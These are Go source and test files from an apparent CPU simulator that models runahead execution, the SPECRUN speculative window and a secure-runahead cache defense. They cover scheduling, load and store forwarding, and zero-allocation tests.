			// Oldest-first processing guarantees entries already completed
			// this cycle are older than u and survive the squash.
			c.recover(u, now)
		}
	}
	c.inflight = compact(c.inflight, func(u *uop) bool {
		return !u.squashed && u.stage == stIssued
	})
}

// scanSQPoll checks all older stores for ordering hazards by walking the
// whole store queue oldest-first.  It returns the youngest fully-covering
// older store for forwarding, or blocked=true if any older store has an
// unknown address or partially overlaps.
func (c *CPU) scanSQPoll(u *uop, size int) (fwd *uop, blocked bool) {
	for _, st := range c.sq {
		if st.seq >= u.seq {
			break
		}
		if st.squashed {
			continue
		}
		if !st.addrValid {
			if st.stage == stDone && st.resINV {
				continue // runahead INV-address store: never writes
			}
			return nil, true // address unknown: conservative stall
		}
		stSize := st.pd.MemSize
		if st.addr+uint64(stSize) <= u.addr || u.addr+uint64(size) <= st.addr {
			continue // no overlap
		}
		if st.addr <= u.addr && st.addr+uint64(stSize) >= u.addr+uint64(size) && size <= 8 && st.stage == stDone {
			fwd = st // full cover, data ready: forward (youngest wins)
			continue
		}
		if size == 16 && st.addr == u.addr && stSize == 16 && st.stage == stDone {
			fwd = st
			continue
		}
		return nil, true // partial overlap or data not ready: wait
	}
	return fwd, false
}
