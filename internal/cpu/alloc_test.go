package cpu

import (
	"encoding/json"
	"errors"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/isa"
	"specrun/internal/mem"
	"specrun/internal/proggen"
	"specrun/internal/runahead"
)

// streamLoop builds an endless two-stream load loop over a footprint-byte
// region (power of two), with enough dependent work that the machine cycles
// through misses, runahead episodes, mispredictions and squashes — the full
// steady-state behaviour the zero-allocation property must hold under.
func streamLoop(t *testing.T, footprint uint64) *asm.Program {
	t.Helper()
	if footprint&(footprint-1) != 0 {
		t.Fatalf("footprint %d not a power of two", footprint)
	}
	b := asm.NewBuilder(0x1000, 0x100000)
	base := b.Alloc("buf", footprint, 64)
	r1, r2, off, tmp, mask := isa.R(1), isa.R(2), isa.R(3), isa.R(4), isa.R(5)
	b.MoviAddr(r1, base)
	b.Movi(off, 0)
	b.Movi(mask, int64(footprint-1))
	b.Label("loop")
	b.Ldx(tmp, r1, off, 1, 0)
	b.Ldx(r2, r1, off, 1, 64)
	b.Add(tmp, tmp, r2)
	b.St(r1, 0, tmp)
	b.Addi(off, off, 128)
	b.And(off, off, mask)
	// A data-dependent branch so the predictor sometimes misses and the
	// squash/recovery path stays exercised.
	b.Andi(tmp, tmp, 3)
	b.Beq(tmp, isa.R(0), "loop")
	b.Jmp("loop")
	prog, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return prog
}

// tickLoopConfig shrinks the caches so the stream loop misses to memory
// continuously (runahead episodes every few hundred cycles) without needing
// a multi-megabyte footprint.
func tickLoopConfig() Config {
	cfg := DefaultConfig()
	cfg.Mem.L2 = mem.CacheConfig{Name: "L2", Size: 16 << 10, Assoc: 4, Latency: 8}
	cfg.Mem.L3 = mem.CacheConfig{Name: "L3", Size: 64 << 10, Assoc: 8, Latency: 32}
	return cfg
}

// TestTickLoopZeroAllocSteadyState pins the tentpole property: once warmed
// up, the simulator tick loop performs no heap allocation at all — uops,
// checkpoints, queues, the runahead cache and the memory hierarchy all
// recycle.  A regression here silently reintroduces the ~400k-allocations-
// per-run profile this PR removed.
func TestTickLoopZeroAllocSteadyState(t *testing.T) {
	const footprint = 1 << 20
	prog := streamLoop(t, footprint)
	c := New(tickLoopConfig(), prog)

	// Pre-touch the functional memory image so page-table growth is done
	// before measurement (the loop's working set covers it anyway; this just
	// makes the warmup deterministic).
	for a := uint64(0); a < footprint; a += 1 << 12 {
		c.Mem().SetByte(prog.MustSym("buf")+a, 0)
	}
	if err := c.Run(300_000); !errors.Is(err, ErrMaxCycles) {
		t.Fatalf("warmup: %v", err)
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("tick-loop workload triggered no runahead episodes; the test lost its coverage")
	}
	// EpisodeReaches is the one deliberately unbounded stat (one entry per
	// episode); give it room so its amortised growth doesn't show up as a
	// tick-loop allocation.
	grown := make([]uint64, len(c.stats.EpisodeReaches), 1<<16)
	copy(grown, c.stats.EpisodeReaches)
	c.stats.EpisodeReaches = grown

	avg := testing.AllocsPerRun(5, func() {
		if err := c.Run(20_000); !errors.Is(err, ErrMaxCycles) {
			t.Fatalf("run: %v", err)
		}
	})
	if avg != 0 {
		t.Fatalf("steady-state tick loop allocates: %.1f allocs per 20k cycles, want 0", avg)
	}
}

// TestTickLoopZeroAllocTapDisabled pins the leak tap's inertness contract:
// a machine that had observers installed and then removed again (the
// SetObserver(nil) path) must be exactly as allocation-free as one that
// never had them — the nil-checked emission sites are the only footprint
// the tap leaves on an untapped run.
func TestTickLoopZeroAllocTapDisabled(t *testing.T) {
	const footprint = 1 << 20
	prog := streamLoop(t, footprint)
	c := New(tickLoopConfig(), prog)
	// Install both taps, exercise them, then disable — the steady-state
	// measurement below must not see a trace of them.
	events := 0
	c.SetObserver(func(Observation) { events++ })
	c.Hier().SetObserver(func(mem.CacheEvent) { events++ })
	for a := uint64(0); a < footprint; a += 1 << 12 {
		c.Mem().SetByte(prog.MustSym("buf")+a, 0)
	}
	if err := c.Run(300_000); !errors.Is(err, ErrMaxCycles) {
		t.Fatalf("warmup: %v", err)
	}
	if events == 0 {
		t.Fatal("taps saw no events during warmup; the test lost its coverage")
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("tick-loop workload triggered no runahead episodes; the test lost its coverage")
	}
	c.SetObserver(nil)
	c.Hier().SetObserver(nil)
	grown := make([]uint64, len(c.stats.EpisodeReaches), 1<<16)
	copy(grown, c.stats.EpisodeReaches)
	c.stats.EpisodeReaches = grown

	avg := testing.AllocsPerRun(5, func() {
		if err := c.Run(20_000); !errors.Is(err, ErrMaxCycles) {
			t.Fatalf("run: %v", err)
		}
	})
	if avg != 0 {
		t.Fatalf("tick loop with disabled tap allocates: %.1f allocs per 20k cycles, want 0", avg)
	}
}

// TestTickLoopZeroAllocTracerDisabled extends the inertness contract to the
// lifecycle tracer: a machine that had a per-uop tracer installed and then
// removed (SetTracer(nil)) must be exactly as allocation-free as one that
// never had it.  With the tracer installed, the events themselves pass by
// value through the callback, so the emission sites allocate nothing either
// — only the caller's own sink can.
func TestTickLoopZeroAllocTracerDisabled(t *testing.T) {
	const footprint = 1 << 20
	prog := streamLoop(t, footprint)
	c := New(tickLoopConfig(), prog)
	events := 0
	c.SetTracer(func(TraceEvent) { events++ })
	for a := uint64(0); a < footprint; a += 1 << 12 {
		c.Mem().SetByte(prog.MustSym("buf")+a, 0)
	}
	if err := c.Run(300_000); !errors.Is(err, ErrMaxCycles) {
		t.Fatalf("warmup: %v", err)
	}
	if events == 0 {
		t.Fatal("tracer saw no events during warmup; the test lost its coverage")
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("tick-loop workload triggered no runahead episodes; the test lost its coverage")
	}
	grown := make([]uint64, len(c.stats.EpisodeReaches), 1<<16)
	copy(grown, c.stats.EpisodeReaches)
	c.stats.EpisodeReaches = grown

	// Still traced: the emission sites themselves must not allocate (the
	// counting sink above closes over an int that already escaped).
	avg := testing.AllocsPerRun(5, func() {
		if err := c.Run(20_000); !errors.Is(err, ErrMaxCycles) {
			t.Fatalf("run: %v", err)
		}
	})
	if avg != 0 {
		t.Fatalf("tick loop with tracer installed allocates: %.1f allocs per 20k cycles, want 0", avg)
	}

	c.SetTracer(nil)
	avg = testing.AllocsPerRun(5, func() {
		if err := c.Run(20_000); !errors.Is(err, ErrMaxCycles) {
			t.Fatalf("run: %v", err)
		}
	})
	if avg != 0 {
		t.Fatalf("tick loop with removed tracer allocates: %.1f allocs per 20k cycles, want 0", avg)
	}
}

// TestResetReuseZeroAlloc pins the machine-reuse half of the tentpole: after
// one warmup pass, Reset + full re-run of the same program allocates
// nothing.
func TestResetReuseZeroAlloc(t *testing.T) {
	prog := proggen.Generate(7, proggen.DefaultOptions())
	c := New(DefaultConfig(), prog)
	run := func() {
		if err := c.Run(20_000_000); err != nil {
			t.Fatalf("run: %v", err)
		}
	}
	run() // warmup 1: grow pools to the program's high-water marks
	c.Reset(prog)
	run() // warmup 2: cover allocations on the reset path itself
	avg := testing.AllocsPerRun(3, func() {
		c.Reset(prog)
		run()
	})
	if avg != 0 {
		t.Fatalf("Reset+Run allocates: %.1f allocs per run, want 0", avg)
	}
}

// TestBatchRunZeroAllocSteadyState extends the zero-allocation pin to the
// batched driver: once every lane's machine and the per-PC predecode caches
// are warm, a full RunPrograms round (Reset + lockstep re-run of every lane)
// allocates nothing.
func TestBatchRunZeroAllocSteadyState(t *testing.T) {
	progs := []*asm.Program{
		proggen.Generate(7, proggen.DefaultOptions()),
		proggen.Generate(8, proggen.DefaultOptions()),
	}
	b := NewBatch(DefaultConfig(), len(progs))
	run := func() {
		for i, err := range b.RunPrograms(progs, 20_000_000) {
			if err != nil {
				t.Fatalf("lane %d: %v", i, err)
			}
		}
	}
	run() // warmup 1: build lane machines, grow pools to high-water marks
	run() // warmup 2: cover the reset path itself
	avg := testing.AllocsPerRun(3, run)
	if avg != 0 {
		t.Fatalf("batched RunPrograms allocates: %.1f allocs per round, want 0", avg)
	}
}

// freshMachineAllocBudget pins the construction cost of one default-config
// machine.  New currently performs ~165 allocations (queues, pools, caches,
// predictor tables, the predecode cache); the pin leaves a little headroom
// for layout changes but catches order-of-magnitude drift — a regression
// here multiplies across every batch lane and every pooled campaign worker.
const freshMachineAllocBudget = 200

func TestFreshMachineAllocBudget(t *testing.T) {
	prog := proggen.Generate(7, proggen.DefaultOptions())
	cfg := DefaultConfig()
	avg := testing.AllocsPerRun(5, func() {
		c := New(cfg, prog)
		_ = c
	})
	if avg > freshMachineAllocBudget {
		t.Fatalf("New allocates %.0f times, budget %d", avg, freshMachineAllocBudget)
	}
}

// TestResetMatchesFresh pins the correctness contract machine reuse rests
// on: a Reset machine is byte-identical — same statistics, same committed
// state — to a freshly constructed one, across the runahead variants and
// the secure mode, and even when the previous program differed.
func TestResetMatchesFresh(t *testing.T) {
	cfgs := map[string]Config{
		"baseline": func() Config { c := DefaultConfig(); c.Runahead.Kind = runahead.KindNone; return c }(),
		"original": DefaultConfig(),
		"precise":  func() Config { c := DefaultConfig(); c.Runahead.Kind = runahead.KindPrecise; return c }(),
		"vector":   func() Config { c := DefaultConfig(); c.Runahead.Kind = runahead.KindVector; return c }(),
		"secure":   func() Config { c := DefaultConfig(); c.Secure.Enabled = true; return c }(),
	}
	progA := proggen.Generate(11, proggen.DefaultOptions())
	progB := proggen.Generate(12, proggen.DefaultOptions())
	for name, cfg := range cfgs {
		t.Run(name, func(t *testing.T) {
			fresh := New(cfg, progB)
			if err := fresh.Run(20_000_000); err != nil {
				t.Fatalf("fresh run: %v", err)
			}
			reused := New(cfg, progA)
			if err := reused.Run(20_000_000); err != nil {
				t.Fatalf("first run: %v", err)
			}
			reused.Reset(progB)
			if err := reused.Run(20_000_000); err != nil {
				t.Fatalf("reused run: %v", err)
			}
			want, _ := json.Marshal(fresh.Stats())
			got, _ := json.Marshal(reused.Stats())
			if string(want) != string(got) {
				t.Errorf("stats diverged after Reset:\nfresh:  %s\nreused: %s", want, got)
			}
			for i := 0; i < isa.NumIntRegs; i++ {
				if fresh.IntReg(i) != reused.IntReg(i) {
					t.Errorf("r%d = %#x, want %#x", i, reused.IntReg(i), fresh.IntReg(i))
				}
			}
			if fresh.Cycle() != reused.Cycle() {
				t.Errorf("cycle = %d, want %d", reused.Cycle(), fresh.Cycle())
			}
		})
	}
}

// TestDeadlockReportsCycles pins the satellite bugfix: a Run that exits via
// ErrDeadlock must still publish the cycle count, so Stats.Cycles and IPC()
// reflect the failed run rather than a stale earlier one.
func TestDeadlockReportsCycles(t *testing.T) {
	// A program with no HALT: fetch runs off the text, the ROB drains, and
	// nothing ever retires again — the livelock Run detects.
	b := asm.NewBuilder(0x1000, 0x10000)
	b.Movi(isa.R(1), 42)
	prog, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	c := New(DefaultConfig(), prog)
	err = c.Run(10_000_000)
	if !errors.Is(err, ErrDeadlock) {
		t.Fatalf("err = %v, want ErrDeadlock", err)
	}
	if got, want := c.Stats().Cycles, c.Cycle(); got != want || got == 0 {
		t.Fatalf("Stats.Cycles = %d, want the %d cycles the run burned", got, want)
	}
	if c.Stats().IPC() == 0 {
		t.Fatal("IPC() = 0 on a deadlocked run that committed instructions")
	}
}
