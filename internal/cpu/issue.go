package cpu

import (
	"specrun/internal/isa"
	"specrun/internal/mem"
	"specrun/internal/runahead"
)

// srcsReady polls producers and captures values as they complete.
func (c *CPU) srcsReady(u *uop) bool { return c.srcsReadyTo(u, u.nsrc) }

// srcsReadyTo polls the first n source operands only.
func (c *CPU) srcsReadyTo(u *uop, n int) bool {
	ready := true
	for i := 0; i < n; i++ {
		o := &u.srcs[i]
		if o.ready {
			continue
		}
		if p := o.producer; p != nil {
			if p.seq != o.prodSeq {
				// The producer committed and its uop was recycled before this
				// consumer polled it (possible when the consumer missed an
				// issue-phase scan the cycle the producer completed).  The
				// committed value — by in-order retirement, still unclobbered
				// by any younger writer — is in the architectural state.
				o.val, o.val2, o.inv, o.taint = c.arch.read(o.reg)
				o.producer = nil
				o.ready = true
				continue
			}
			if p.stage == stDone {
				o.val, o.val2, o.inv = p.result, p.result2, p.resINV
				o.producer = nil
				o.ready = true
				continue
			}
		}
		ready = false
	}
	return ready
}

// fuUsedNow reads a pipelined unit's claim count for this cycle.  Counts
// stamped with an earlier cycle are stale leftovers consumeFU has not yet
// batch-cleared; they read as zero.
func (c *CPU) fuUsedNow(fu isa.FU, now uint64) int {
	if c.fuStamp != now {
		return 0
	}
	return c.fuUsed[fu]
}

func (c *CPU) fuAvailable(fu isa.FU, now uint64) bool {
	switch fu {
	case isa.FUIntALU:
		return c.fuUsedNow(fu, now) < c.cfg.IntALU
	case isa.FUIntMul:
		return c.fuUsedNow(fu, now) < c.cfg.IntMul
	case isa.FUFPAdd:
		return c.fuUsedNow(fu, now) < c.cfg.FPAdd
	case isa.FUFPMul:
		return c.fuUsedNow(fu, now) < c.cfg.FPMul
	case isa.FUMem:
		return c.fuUsedNow(fu, now) < c.cfg.MemPorts
	case isa.FUIntDiv:
		return anyFree(c.divBusy, now)
	case isa.FUFPDiv:
		return anyFree(c.fdivBusy, now)
	}
	return true
}

func anyFree(busy []uint64, now uint64) bool {
	for _, b := range busy {
		if b <= now {
			return true
		}
	}
	return false
}

func claimUnit(busy []uint64, now, until uint64) {
	for i, b := range busy {
		if b <= now {
			busy[i] = until
			return
		}
	}
}

func (c *CPU) consumeFU(fu isa.FU, now, lat uint64) {
	switch fu {
	case isa.FUIntDiv:
		claimUnit(c.divBusy, now, now+lat) // unpipelined
	case isa.FUFPDiv:
		claimUnit(c.fdivBusy, now, now+lat)
	default:
		if c.fuStamp != now {
			// First pipelined claim of the cycle: retire the stale counts in
			// one batch instead of zeroing the array every cycle.
			c.fuUsed = [8]int{}
			c.fuStamp = now
		}
		c.fuUsed[fu]++
	}
}

func (u *uop) srcINVTo(n int) bool {
	for i := 0; i < n && i < u.nsrc; i++ {
		if u.srcs[i].inv {
			return true
		}
	}
	return false
}

func (u *uop) anySrcINV() bool { return u.srcINVTo(u.nsrc) }

// execute computes the uop's result and completion time.  It returns false
// if the operation cannot proceed yet (load ordering against older stores,
// or an SL-cache gate awaiting branch resolution); the caller retries on a
// later cycle.  No state is modified on a false return.
func (c *CPU) execute(u *uop, now uint64) bool {
	pd := u.pd
	op := pd.Op
	lat := uint64(pd.Lat)
	switch pd.Kind {
	case isa.KindALU:
		s0, s1 := u.srcs[0], u.srcs[1]
		switch pd.DestClass {
		case isa.ClassInt:
			u.result = isa.EvalALU(op, s0.val, s1.val, u.inst.Imm)
		case isa.ClassFP:
			u.result = isa.EvalFP(op, s0.val, s1.val, u.inst.Imm)
		case isa.ClassVec:
			r := isa.EvalVec(op, [2]uint64{s0.val, s0.val2}, [2]uint64{s1.val, s1.val2})
			u.result, u.result2 = r[0], r[1]
		}
		u.resINV = u.anySrcINV()
		u.doneAt = now + lat

	case isa.KindRDTSC:
		u.result = now
		u.doneAt = now + lat

	case isa.KindBranch:
		if u.anySrcINV() {
			c.markUnresolved(u, now)
			break
		}
		u.actualTaken = isa.CondTaken(op, u.srcs[0].val, u.srcs[1].val)
		if u.actualTaken {
			u.actualTarget = u.inst.Target
		} else {
			u.actualTarget = u.pc + isa.InstBytes
		}
		u.doneAt = now + lat

	case isa.KindJump:
		u.actualTaken = true
		u.actualTarget = u.inst.Target
		u.doneAt = now + lat

	case isa.KindJumpR:
		if u.anySrcINV() {
			c.markUnresolved(u, now)
			break
		}
		u.actualTaken = true
		u.actualTarget = u.srcs[0].val
		u.doneAt = now + lat

	case isa.KindCall:
		// Push the return address: a store to [sp-8] plus an SP update.
		sp := u.srcs[0].val
		u.addr = sp - 8
		u.addrValid = !u.srcs[0].inv
		u.storeVal = u.pc + isa.InstBytes
		u.storeINV = u.srcs[0].inv
		u.result = sp - 8 // new SP
		u.resINV = u.srcs[0].inv
		u.actualTaken = true
		u.actualTarget = u.inst.Target
		u.doneAt = now + lat

	case isa.KindCallR:
		sp := u.srcs[1].val
		u.addr = sp - 8
		u.addrValid = !u.srcs[1].inv
		u.storeVal = u.pc + isa.InstBytes
		u.storeINV = u.srcs[1].inv
		u.result = sp - 8
		u.resINV = u.srcs[1].inv
		if u.srcs[0].inv {
			c.markUnresolved(u, now)
			break
		}
		u.actualTaken = true
		u.actualTarget = u.srcs[0].val
		u.doneAt = now + lat

	case isa.KindRet, isa.KindLoad:
		return c.execLoad(u, now)

	case isa.KindStore:
		base, idx := u.srcs[0], operand{}
		if pd.UsesIndex {
			idx = u.srcs[1]
		}
		if base.inv || idx.inv {
			u.addrValid = false
			u.resINV = true
		} else {
			u.addr = isa.EffAddr(u.inst, base.val, idx.val)
			u.addrValid = true
		}
		// STA half done; the STD half completes in writeback when the data
		// operand arrives.
		if c.srcsReadyTo(u, u.nsrc) {
			data := u.srcs[u.nsrc-1]
			u.storeVal, u.storeVal2 = data.val, data.val2
			u.storeINV = data.inv
			u.doneAt = now + lat
		} else {
			u.dataPending = true
			u.doneAt = ^uint64(0) >> 1
		}

	case isa.KindFlush:
		if u.srcs[0].inv {
			u.addrValid = false
			u.resINV = true
		} else {
			u.addr = isa.EffAddr(u.inst, u.srcs[0].val, 0)
			u.addrValid = true
		}
		u.doneAt = now + lat

	default:
		u.doneAt = now + lat
	}
	return true
}

// markUnresolved handles a control instruction whose predicate or target
// depends on INV data during runahead: per the paper (§2.1) such branches
// never complete resolution, so the machine keeps following the prediction.
// This is the core of the SPECRUN window.  With the SkipINVBranch mitigation
// the front end instead stops speculating past the branch.
func (c *CPU) markUnresolved(u *uop, now uint64) {
	u.unresolved = true
	u.resINV = true
	u.actualTaken = u.predTaken
	u.actualTarget = u.predTarget
	u.doneAt = now + 1
	c.stats.INVBranches++
	if c.mode == ModeRunahead && c.cfg.Runahead.SkipINVBranch {
		c.stats.SkipBarriers++
		c.ra.fetchBarrier = true
		c.squashYounger(u.seq)
		c.fetchBlocked = true
	}
}

// execLoad performs loads (and RET's return-address pop): store-queue
// ordering and forwarding, the runahead cache, the SL cache (Algorithm 1)
// and finally the timing hierarchy plus functional memory.
func (c *CPU) execLoad(u *uop, now uint64) bool {
	pd := u.pd
	isRet := pd.Kind == isa.KindRet
	size := int(pd.MemSize)

	// Effective address.
	if isRet {
		sp := u.srcs[0].val
		if u.srcs[0].inv {
			c.markUnresolved(u, now)
			u.result = sp + 8
			return true
		}
		u.addr = sp
		u.result = sp + 8 // SP update is valid even if the pop stalls
	} else {
		base, idx := u.srcs[0], operand{}
		if pd.UsesIndex {
			idx = u.srcs[1]
		}
		if base.inv || idx.inv {
			// INV address: no memory access, poisoned result (runahead).
			u.resINV = true
			u.doneAt = now + 1
			return true
		}
		u.addr = isa.EffAddr(u.inst, base.val, idx.val)
	}
	u.addrValid = true

	// Older-store ordering and forwarding.
	fwd, blocked := c.scanSQ(u, size)
	if blocked {
		c.stats.LoadBlockedSQ++
		u.replayWhy = ReplayMemOrd
		return false
	}
	if fwd != nil {
		// A 16-byte store holds lane 0 in storeVal and lane 1 in storeVal2;
		// assemble the covered window across the lane boundary.  (Shifting
		// storeVal alone forwarded 0 for offsets >= 8 — found by the
		// differential fuzzer, seed 160 of the first campaign.)
		off := u.addr - fwd.addr
		var v uint64
		switch lo, hi := fwd.storeVal, fwd.storeVal2; {
		case off >= 8:
			v = hi >> (8 * (off - 8))
		case off == 0:
			v = lo
		default:
			v = lo>>(8*off) | hi<<(8*(8-off))
		}
		if size < 8 {
			v &= (1 << (8 * size)) - 1
		}
		if size == 16 {
			u.result2 = fwd.storeVal2
		}
		u.fwdFromSQ = true
		u.doneAt = now + 2
		if isRet {
			c.finishRetTarget(u, v, fwd.storeINV, now)
		} else {
			u.result = v
			u.resINV = fwd.storeINV
		}
		return true
	}

	// Runahead cache: pseudo-retired runahead stores.
	if c.mode == ModeRunahead && c.raCache.Covers(u.addr, size) {
		v, present, inv := c.raCache.Read(u.addr, size)
		u.doneAt = now + 2
		if !present {
			u.resINV = true
			return true
		}
		if isRet {
			c.finishRetTarget(u, v, inv, now)
		} else {
			u.result = v
			u.resINV = inv
		}
		return true
	}

	line := c.hier.LineAddr(u.addr)

	// Algorithm 1: after a secure runahead episode the SL cache is probed
	// first; USL entries gate on branch resolution.
	if c.mode == ModeNormal && c.slActive {
		if done, ok := c.slLoadPath(u, line, now); ok {
			if !done {
				u.replayWhy = ReplaySLGate
				return false // gated: retry after the branch resolves
			}
			c.loadValue(u, size, now, c.hier.Config().L1D.Latency)
			u.doneAt = now + uint64(c.cfg.Secure.SLLatency)
			return true
		}
	}

	// Timing access.
	if c.mode == ModeRunahead && c.cfg.Secure.Enabled {
		// Secure runahead: fills stay out of the hierarchy; memory-level
		// fills land in the SL cache instead.
		res := c.hier.AccessNoFill(mem.PortD, u.addr, now)
		u.missLevel = uint8(res.Level)
		if c.slowInRunahead(res, now) {
			if res.Level >= c.cfg.Runahead.TriggerLevel {
				c.sl.Install(line, res.Done)
			}
			u.resINV = true
			u.doneAt = now + 2
			if isRet {
				c.markUnresolved(u, now)
			}
			return true
		}
		c.loadValue(u, size, now, 0)
		u.doneAt = res.Done
		return true
	}

	res := c.hier.Access(mem.PortD, u.addr, now, false)
	u.missLevel = uint8(res.Level)
	if c.obsFn != nil {
		c.observe(ObsLoad, u.pc, line, res.Level)
	}

	// Vector runahead: prefetch further lanes along the detected stride.
	if c.mode == ModeRunahead && c.cfg.Runahead.Kind == runahead.KindVector {
		if stride, ok := c.strides.Predict(u.pc); ok {
			for lane := 1; lane < c.cfg.Runahead.VectorLanes; lane++ {
				pa := u.addr + uint64(int64(lane)*stride)
				pres := c.hier.Access(mem.PortD, pa, now, false)
				c.stats.VectorPrefetches++
				if c.obsFn != nil {
					c.observe(ObsPrefetch, u.pc, c.hier.LineAddr(pa), pres.Level)
				}
			}
		}
	}

	if c.mode == ModeRunahead && c.slowInRunahead(res, now) {
		// A runahead load that misses to memory — or merges into a fill
		// that is still far away — is marked INV and pseudo-retires
		// immediately (Mutlu et al.: runahead never waits on memory).  The
		// fill it triggered is the prefetch benefit (and, under SPECRUN,
		// the covert-channel transmission).
		if res.Level >= c.cfg.Runahead.TriggerLevel {
			c.stats.RAPrefIssued++
		}
		u.resINV = true
		u.doneAt = now + 2
		if isRet {
			c.markUnresolved(u, now)
		}
		return true
	}

	c.loadValue(u, size, now, 0)
	u.doneAt = res.Done
	return true
}

// slowInRunahead reports whether a load's data is too far away to wait for
// during runahead mode: a memory-level miss, or a merge into an in-flight
// fill that will not land within an L2-hit's worth of cycles.  Runahead
// poisons such loads and keeps going — waiting would stall pseudo-retirement
// and collapse the episode's reach.
func (c *CPU) slowInRunahead(res mem.Result, now uint64) bool {
	if res.Level >= c.cfg.Runahead.TriggerLevel {
		return true
	}
	slack := uint64(c.cfg.Mem.L1D.Latency + c.cfg.Mem.L2.Latency + 2)
	return res.Done > now+slack
}

// loadValue reads the functional value for a completed load.
func (c *CPU) loadValue(u *uop, size int, now uint64, _ int) {
	v := c.memImg.Read(u.addr, min(size, 8))
	if size == 16 {
		u.result2 = c.memImg.ReadU64(u.addr + 8)
	}
	if u.pd.Kind == isa.KindRet {
		c.finishRetTarget(u, v, false, now)
		return
	}
	u.result = v
}

// finishRetTarget resolves (or poisons) a return's target.
func (c *CPU) finishRetTarget(u *uop, target uint64, inv bool, now uint64) {
	if inv {
		c.markUnresolved(u, now)
		return
	}
	u.actualTaken = true
	u.actualTarget = target
}

// slLoadPath implements the load arm of Algorithm 1.  Returns ok=false if
// the SL cache holds nothing for this line (fall through to the hierarchy);
// otherwise done reports whether the load may proceed now.
func (c *CPU) slLoadPath(u *uop, line, now uint64) (done, ok bool) {
	e, hit := c.sl.Lookup(line)
	if !hit {
		return false, false
	}
	if e.Btag.N == 0 || c.resolvedOK[e.Btag.N] == c.scopeEpoch {
		// Safe (or gated on a correctly-predicted branch): promote to L1.
		c.promoteSL(u.pc, line, now)
		return true, true
	}
	if sc := c.tracker.Scope(e.Btag.N); sc != nil && sc.Resolved && !sc.Correct {
		// Mispredicted branch: the entry should already be deleted; be
		// defensive and drop it now.
		c.sl.Remove(line)
		return false, false
	}
	// Await branch resolution.  If the gated load is at the ROB head the
	// branch can never resolve (it is not in flight on this path); drop the
	// entry conservatively — the line is NOT promoted, preserving security.
	if c.rob.front() == u {
		c.sl.Remove(line)
		if c.sl.C() == 0 {
			c.slActive = false
		}
		return false, false
	}
	c.stats.SLWaits++
	return false, true
}

// promoteSL moves an SL line into the L1 D-cache (Algorithm 1 line 13).
// This is the moment the defense makes a runahead fill attacker-visible, so
// it is an observation point: pc is the load whose probe triggered the
// promotion.
func (c *CPU) promoteSL(pc, line, now uint64) {
	_, l1d, _, _ := c.hier.Caches()
	l1d.Insert(line, now+uint64(c.cfg.Secure.SLLatency), false)
	c.sl.Promote(line)
	if c.obsFn != nil {
		c.observe(ObsSLPromote, pc, line, mem.LevelL1)
	}
	if c.sl.C() == 0 {
		c.slActive = false
	}
}
