package cpu

import "specrun/internal/isa"

// This file is the event-driven backend scheduler: wakeup-select issue, an
// age-indexed store queue, and push-based writeback.  It replaces the
// polling scheduler (sched_poll.go, retained as the cycle-exact reference
// the equivalence tests compare against) without changing a single
// observable cycle:
//
//   - Wakeup lists instead of operand polling.  Each in-flight producer
//     carries an intrusive waiter list (uop.waiters); when it completes in
//     writeback it writes its result directly into consumers' operand slots
//     and moves fully-ready consumers into the age-ordered ready queue.  The
//     select loop therefore scans ready uops only — a uop waiting on an
//     operand is in no queue at all, just in the ROB and its producers'
//     waiter lists.
//   - Replay queue.  A ready uop that fails to issue for a non-operand
//     reason — functional-unit contention stays in the ready queue (the
//     select loop is the arbiter); memory-ordering blocks (LoadBlockedSQ),
//     SL-cache gating and ROB-head serialization move to the replay queue
//     with the condition recorded (uop.replayWhy) — is re-selected the next
//     cycle.  Every replay condition is deliberately re-evaluated per cycle:
//     the clearing events can occur on any cycle, and the blocked counters
//     are defined per attempt, so coarser wakeups would change observable
//     statistics.
//   - Age-indexed store-queue disambiguation.  The SQ is a true age-ordered
//     ring (dispatch pushes the back, commit pops the front, squash pops the
//     back), with an oldest-unknown-address watermark giving the "blocked on
//     unknown store address" answer in O(1), and per-line intrusive store
//     chains (sqLineIdx) so a load only examines stores that write a line it
//     reads — O(matching stores) instead of O(SQ) per attempt.
//
// Squash safety: waiter entries and the queues hold bare *uop pointers into
// the recycling pool, so every deferred reference validates seq (waiters) or
// is compacted before the two-phase dead lists recycle the uop (ready,
// replay, inflight — all compacted every step), and the SQ ring and line
// chains are maintained eagerly (unlinked the moment a store leaves the
// pipeline).

// issuePhase selects up to IssueWidth ready uops, oldest first, subject to
// functional-unit availability, and executes them (computing results and
// completion times; memory operations access the timing hierarchy here, so
// wrong-path and runahead loads leave real cache state behind).
func (c *CPU) issuePhase(now uint64) {
	if c.pollSched {
		c.issuePhasePoll(now)
		return
	}
	// Re-wake last cycle's replayed uops: merge them (age-ordered) back into
	// the ready queue before selecting.  (The per-cycle FU counts need no
	// clearing here: consumeFU batch-resets them on the first claim of each
	// cycle, keyed by fuStamp.)
	if len(c.replay) > 0 {
		c.mergeReplay()
	}
	issued := 0
	out := c.ready[:0]
	for idx := 0; idx < len(c.ready); idx++ {
		u := c.ready[idx]
		if u.squashed { // may be marked mid-phase by an INV-branch barrier
			u.inReady = false
			continue
		}
		if issued >= c.cfg.IssueWidth {
			out = append(out, u)
			continue
		}
		pd := u.pd
		if pd.Serializing && c.rob.front() != u {
			// RDTSC/FENCE execute at the ROB head only.
			u.replayWhy = ReplayROBHead
			c.replay = append(c.replay, u)
			if c.traceFn != nil {
				c.traceEmit(TraceReplay, u)
			}
			continue
		}
		fu := pd.FU
		if !c.fuAvailable(fu, now) {
			out = append(out, u) // lost select arbitration; compete again next cycle
			continue
		}
		if !c.execute(u, now) {
			// Memory-ordering or SL-cache gating (execute recorded which via
			// replayWhy): retry next cycle.
			c.replay = append(c.replay, u)
			if c.traceFn != nil {
				c.traceEmit(TraceReplay, u)
			}
			continue
		}
		c.consumeFU(fu, now, uint64(pd.Lat))
		u.stage = stIssued
		u.inReady = false
		if u.inIQ {
			u.inIQ = false
			c.iqUsed--
		}
		c.inflight = insertBySeq(c.inflight, u)
		if u.isStore() && u.addrValid {
			c.sqLink(u)
			if u.seq == c.sqUnknown {
				c.recomputeSQUnknown()
			}
		}
		issued++
		c.stats.Issued++
		if c.traceFn != nil {
			c.traceEmit(TraceIssue, u)
		}
	}
	c.ready = out
}

// mergeReplay folds the replay queue back into the ready queue.  Both are
